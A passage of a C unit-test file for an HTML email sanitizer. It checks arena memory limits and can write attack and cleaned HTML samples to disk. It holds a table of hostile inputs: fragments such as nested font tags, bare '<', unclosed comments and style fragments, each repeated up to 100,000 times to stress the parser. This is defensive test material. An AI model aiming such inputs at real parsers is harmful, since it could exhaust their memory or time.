	    {"<font size=1><font size=2><font size=3><font size=4><i><b><u>",
	        "<p>x", 50000},
	    {"", "<svg>", 50000},
	    {"", "<", 100000},
	    {"", "&", 100000},
	    {"<p ", "a=b ", 10000},
	    {"<p style='", "color:red;", 1000},
	    {"<p style='", "/*", 10000},
	    {"<p style='", "a(", 5000},
	    {"<img src='data:image/png;base64,", "AAAA", 100000},
	    {"", "<!--", 100000},
	    {"", "</p>", 50000},
	    {"", "<li>", 20000},
	    {"", "<select><option>", 20000},
	};
	struct arena *arena = arena_new(TEST_ARENA_BYTES);
	char *in = malloc(1 << 20);

	(void)state;
	assert_non_null(in);
	for (size_t i = 0; i < sizeof(hostile) / sizeof(hostile[0]); i++) {
		size_t len = strlen(hostile[i].head);
		size_t piece = strlen(hostile[i].piece);
		memcpy(in, hostile[i].head, len);
		for (size_t j = 0;
		     j < hostile[i].count && len + piece < (1 << 20); j++) {
			memcpy(in + len, hostile[i].piece, piece);
			len += piece;
		}
		arena_reset(arena);
		check(arena, str_of(in, len), false);
		(void)mime_html_to_text(arena, str_of(in, len));
	}
	free(in);
	arena_free(arena);
}

static void
test_limits(void **state)
{
	struct html_clean_options options = {0};
	struct html_clean_result result;
	struct err err = ERR_NONE;
	struct arena *arena = arena_new(64);
	size_t len = LIMIT_HTML_SHOWN + 1;
	char *in = calloc(1, len);

	(void)state;
	assert_non_null(in);
	assert_int_equal(
	    html_clean(STR("<p>a longer text than the arena holds, so that it "
	                   "cannot be copied</p>"),
	        &options, arena, &result, &err),
	    ERR_NO_MEMORY);
	free(in);
	arena_free(arena);
}

static void
write_file(
    const char *folder, size_t number, const char *kind, struct str contents)
{
	char path[1000];
	FILE *file;

	(void)snprintf(
	    path, sizeof(path), "%s/%03zu-%s.html", folder, number, kind);
	file = fopen(path, "w");
	if (file == NULL)
		return;
	(void)fwrite("<!DOCTYPE html><body>", 1, 21, file);
	(void)fwrite(contents.ptr, 1, contents.len, file);
	(void)fclose(file);
}

static void
write_all(const char *folder)
{
	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
		struct arena *arena = arena_new(TEST_ARENA_BYTES);
		struct str source = str_c(attacks[i]);
		write_file(folder, i, "attack", source);
		write_file(
		    folder, i, "clean", cleaned(arena, source, false).body.s);
		arena_free(arena);
	}
}

int
main(int argc, char **argv)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_attacks),
	    cmocka_unit_test(test_contexts),
	    cmocka_unit_test(test_kept),
	    cmocka_unit_test(test_images),
	    cmocka_unit_test(test_addresses),
	    cmocka_unit_test(test_body),
	    cmocka_unit_test(test_hostile),
	    cmocka_unit_test(test_limits),
	};

	if (argc == 3 && strcmp(argv[1], "--write") == 0) {
		write_all(argv[2]);
		return 0;
	}
	return cmocka_run_group_tests(tests, NULL, NULL);
}
